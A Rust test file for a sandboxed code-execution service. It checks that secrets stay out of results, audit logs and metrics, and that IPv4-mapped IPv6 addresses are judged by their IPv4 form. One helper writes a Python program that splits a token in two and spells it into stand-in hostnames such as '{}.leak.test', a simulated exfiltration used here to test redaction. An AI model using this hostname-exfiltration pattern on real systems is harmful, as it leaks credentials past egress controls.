//! What of a program's requests leaves the host besides the requests themselves: the
//! result's `network` field, the audit log's egress lines and `/metrics`. A program that
//! holds a secret's value can spell it into a host; no upstream is needed for that (names
//! that do not resolve are refused after the allow list has let them through), so these
//! servers have egress on and no machine behind it. The address rules stay as an operator
//! sets them (`--egress-allow-private 127.0.0.1`, nothing else).

use std::path::PathBuf;

use crate::http_support::*;
use serde_json::{Value, json};

const KEY: &str = "alice-key-0123456789abcdef";

/// A keys file whose one key (`alice`) belongs to the tenant `acme`.
fn keys_file(tag: &str) -> PathBuf {
    let path = scratch_dir(tag).join("keys.txt");
    std::fs::write(&path, format!("tenant acme\nalice@acme:{KEY}\n")).unwrap();
    path
}

async fn metrics_text(s: &TestServer) -> String {
    let r = client().get(s.url("/metrics")).send().await.unwrap();
    assert_eq!(r.status(), 200);
    r.text().await.unwrap()
}

/// A program that builds `value` from two halves (so the code as sent does not hold it)
/// and asks for each of `hosts` with `.{value}` in place of `{}`, printing each reason.
fn ask_each(value: &str, hosts: &[&str]) -> String {
    let (a, b) = value.split_at(value.len() / 2);
    format!(
        "import urllib.request, urllib.error\n\
         v = {a:?} + {b:?}\n\
         for h in {hosts:?}:\n\
         \x20   try:\n\
         \x20       urllib.request.urlopen('http://' + h.replace('{{}}', v) + '/', timeout=30)\n\
         \x20       print('reached')\n\
         \x20   except urllib.error.URLError as e:\n\
         \x20       print(getattr(e.reason, 'reason', e.reason))\n"
    )
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_secret_spelt_into_a_host_leaves_in_no_result_audit_line_or_metric() {
    let keys = keys_file("egress-leaks");
    let s = start("egress-leaks", move |a| {
        a.api_keys_file = Some(keys);
        a.egress_allow = "api.test,*.leak.test".into();
        a.egress_allow_private = "127.0.0.1".into();
        a.egress_test_resolve = Some("api.test=127.0.0.1".into());
    })
    .await;
    let c = client_with_key(KEY);
    // Mixed case: a host arrives in lower case, and is looked at in any.
    let value = "Tok0A1b2C3d4e5F6";
    let code = ask_each(
        value,
        &[
            // Through the wildcard, then refused at its lookup: a label before the fix.
            "{}.leak.test",
            // Not on the list: the refusal and the audit line named it.
            "{}.elsewhere.test",
            // Allowed and free of any secret: still a label.
            "plain.leak.test",
        ],
    );
    for leakage in ["redact", "off"] {
        let (st, v) = post(
            &c,
            &s.url("/v1/execute"),
            &json!({"code": code, "template": "python", "leakage": leakage,
                    "secrets": {"TOKEN": {"value": value, "hosts": ["api.test"]}}}),
        )
        .await;
        assert_eq!(st, 200, "{v}");
        assert_eq!(
            v["stdout"], "address_not_allowed\nhost_not_allowed\naddress_not_allowed\n",
            "{v}"
        );
        let refusals: Vec<&str> = v["network"]["refusals"]
            .as_array()
            .unwrap()
            .iter()
            .map(|r| r["host"].as_str().unwrap())
            .collect();
        assert_eq!(
            refusals,
            [
                "[REDACTED:secret:TOKEN].leak.test",
                "[REDACTED:secret:TOKEN].elsewhere.test",
                "plain.leak.test"
            ],
            "leakage {leakage}: {v}"
        );
        absent(
            value,
            &v.to_string(),
            &format!("the result (leakage {leakage})"),
        );
    }
    let audit: Vec<Value> = s
        .audit()
        .into_iter()
        .filter(|l| l["action"] == "egress")
        .collect();
    assert_eq!(audit.len(), 6, "{audit:?}");
    assert_eq!(
        audit[0]["egress"]["host"], "[REDACTED:secret:TOKEN].leak.test",
        "{audit:?}"
    );
    absent(
        value,
        &serde_json::to_string(&audit).unwrap(),
        "the audit log",
    );
    let everything = std::fs::read_to_string(&s.audit_log).unwrap();
    absent(value, &everything, "the audit log");
    let m = metrics_text(&s).await;
    absent(value, &m, "/metrics");
    // The tenant's name labels the count, not the key's id; a host is a label only when it
    // matched the allow list and carries no value.
    let series = |host: &str, outcome: &str| {
        format!(
            "vivarium_egress_requests_total{{tenant=\"acme\",host=\"{host}\",outcome=\"{outcome}\"}} "
        )
    };
    assert!(
        m.contains(&(series("-", "address_not_allowed") + "2")),
        "{m}"
    );
    assert!(m.contains(&(series("-", "host_not_allowed") + "2")), "{m}");
    assert!(
        m.contains(&(series("plain.leak.test", "address_not_allowed") + "2")),
        "{m}"
    );
    assert!(!m.contains("tenant=\"alice\""), "{m}");
    s.stop().await;
}

/// Asserts `value` is nowhere in `text`, in any case.
fn absent(value: &str, text: &str, place: &str) {
    assert!(
        !text
            .to_ascii_lowercase()
            .contains(&value.to_ascii_lowercase()),
        "the value is in {place}: {text}"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn ipv4_compatible_and_translated_literals_are_judged_as_their_ipv4() {
    let s = start("egress-v6", |a| {
        a.egress_allow = "[::127.0.0.2],[::ffff:0:127.0.0.2],[::ffff:127.0.0.2]".into();
        a.egress_allow_private = "127.0.0.1".into();
        a.egress_request_timeout_ms = 3_000;
    })
    .await;
    let code = "import urllib.request, urllib.error\n\
                for u in ['http://[::127.0.0.2]:8080/', 'http://[::ffff:0:127.0.0.2]:8080/',\n\
                          'http://[::ffff:127.0.0.2]:8080/']:\n\
                \x20   try:\n\
                \x20       urllib.request.urlopen(u, timeout=30)\n\
                \x20       print('reached')\n\
                \x20   except urllib.error.URLError as e:\n\
                \x20       print(getattr(e.reason, 'reason', e.reason))\n";
    let (st, v) = post(
        &client(),
        &s.url("/v1/execute"),
        &json!({"code": code, "template": "python"}),
    )
    .await;
    assert_eq!(st, 200, "{v}");
    assert_eq!(
        v["stdout"], "address_not_allowed\naddress_not_allowed\naddress_not_allowed\n",
        "{v}"
    );
    s.stop().await;
}

/// A session's secret is a literal of every scan of what its turns return, a code-mode
/// turn's too (such a turn has no network, but the value may already be in a variable).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_sessions_secret_is_redacted_from_its_code_mode_turns_too() {
    let s = start("egress-leaks-code-mode", |a| {
        a.egress_allow = "api.test".into();
    })
    .await;
    let c = client();
    let value = "Tok9Z8y7X6w5V4u3";
    let (st, v) = post(
        &c,
        &s.url("/v1/sessions"),
        &json!({"template": "python", "leakage": "off",
                "secrets": {"TOKEN": {"value": value, "hosts": ["api.test"]}}}),
    )
    .await;
    assert_eq!(st, 201, "{v}");
    let turns = s.url(&format!(
        "/v1/sessions/{}/execute",
        v["id"].as_str().unwrap()
    ));
    let (a, b) = value.split_at(value.len() / 2);
    let (st, v) = post(&c, &turns, &json!({"code": format!("v = {a:?} + {b:?}")})).await;
    assert_eq!(st, 200, "{v}");
    let (st, v) = post(&c, &turns, &json!({"code": "print(v)\nv"})).await;
    assert_eq!(st, 200, "{v}");
    let expected = |v: &Value| {
        assert_eq!(
            v["stdout"], "[REDACTED:secret:TOKEN]\n'[REDACTED:secret:TOKEN]'\n",
            "{v}"
        );
        assert_eq!(v["result"], "'[REDACTED:secret:TOKEN]'", "{v}");
        absent(value, &v.to_string(), "a turn's answer");
    };
    expected(&v);
    // The same through a turn that calls a tool, with the value in its call's arguments.
    let tool = json!([{"name": "noop", "description": "does nothing",
                       "parameters": {"type": "object"}}]);
    let code = "print(v)\ntools.noop(token=v)\nv";
    let (st, v) = post(&c, &turns, &json!({"code": code, "tools": tool})).await;
    assert_eq!(st, 200, "{v}");
    assert_eq!(v["status"], "suspended", "{v}");
    absent(value, &v.to_string(), "the suspended turn's calls");
    let (st, v) = post(
        &c,
        &s.url(&format!(
            "/v1/executions/{}/resume",
            v["execution_id"].as_str().unwrap()
        )),
        &json!({"results": [{"call_id": "call_1", "result": null}]}),
    )
    .await;
    assert_eq!(st, 200, "{v}");
    expected(&v);
    s.stop().await;
}
